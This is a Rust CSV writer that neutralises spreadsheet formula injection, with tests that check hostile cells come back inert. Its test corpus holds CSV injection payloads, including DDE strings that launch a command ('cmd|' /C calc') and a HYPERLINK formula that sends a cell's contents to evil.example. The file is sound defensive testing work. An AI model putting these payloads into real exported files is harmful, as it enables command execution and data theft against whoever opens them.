//! Tables as CSV (RFC 4180, UTF-8) that no spreadsheet takes for formulas. Pure.

/// A cell that begins with one of these is a formula to a spreadsheet, whatever it is to us.
const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Writes rows, each on a line of its own that ends in CR LF.
pub fn write_csv(rows: &[Vec<String>]) -> String {
    let mut out = String::new();
    for row in rows {
        for (place, cell) in row.iter().enumerate() {
            if place > 0 {
                out.push(',');
            }
            write_cell(&mut out, cell);
        }
        out.push_str("\r\n");
    }
    out
}

/// A cell that could be a formula gets a `'` in front; one that could be taken for more than one gets quotes around it.
fn write_cell(out: &mut String, cell: &str) {
    let is_formula = cell.starts_with(FORMULA);
    let needs_quotes = is_formula || cell.contains(['"', ',', '\n', '\r']) || cell.trim() != cell;
    if !needs_quotes {
        out.push_str(cell);
        return;
    }
    out.push('"');
    if is_formula {
        out.push('\'');
    }
    out.push_str(&cell.replace('"', "\"\""));
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What RFC 4180 makes of it, by an implementation that knows nothing of the writer.
    fn read(text: &str) -> Vec<Vec<String>> {
        let (mut rows, mut row, mut cell) = (vec![], vec![], String::new());
        let mut quoted = false;
        let mut rest = text.chars().peekable();
        while let Some(c) = rest.next() {
            match c {
                '"' if quoted && rest.peek() == Some(&'"') => {
                    rest.next();
                    cell.push('"');
                }
                '"' => quoted = !quoted,
                ',' if !quoted => row.push(std::mem::take(&mut cell)),
                '\r' if !quoted && rest.peek() == Some(&'\n') => {
                    rest.next();
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                }
                other => cell.push(other),
            }
        }
        assert!(!quoted && cell.is_empty() && row.is_empty(), "it ends with a line");
        rows
    }

    #[test]
    fn w12_no_cell_is_a_formula_and_every_cell_comes_back() {
        let corpus = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "+1 310 555 0142",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=1,2",
            "=\"a\"\"b\"",
        ];
        for formula in corpus {
            let rows = read(&write_csv(&[vec![formula.to_owned(), "next".to_owned()]]));
            assert_eq!(rows, [vec![format!("'{formula}"), "next".to_owned()]], "{formula:?}");
        }
        for plain in
            ["", "Botox", "a,b", "say \"hi\"", "two\nlines", " padded ", "Peña 🎉", "'quoted", "1-2", "a=b"]
        {
            let rows = read(&write_csv(&[vec![plain.to_owned()]]));
            assert_eq!(rows, [vec![plain.to_owned()]], "{plain:?}");
        }
    }

    #[test]
    fn lines_end_as_rfc_4180_has_them() {
        let rows =
            [vec!["day".to_owned(), "calls".to_owned()], vec!["2026-11-24".to_owned(), "3".to_owned()]];
        assert_eq!(write_csv(&rows), "day,calls\r\n2026-11-24,3\r\n");
    }
}
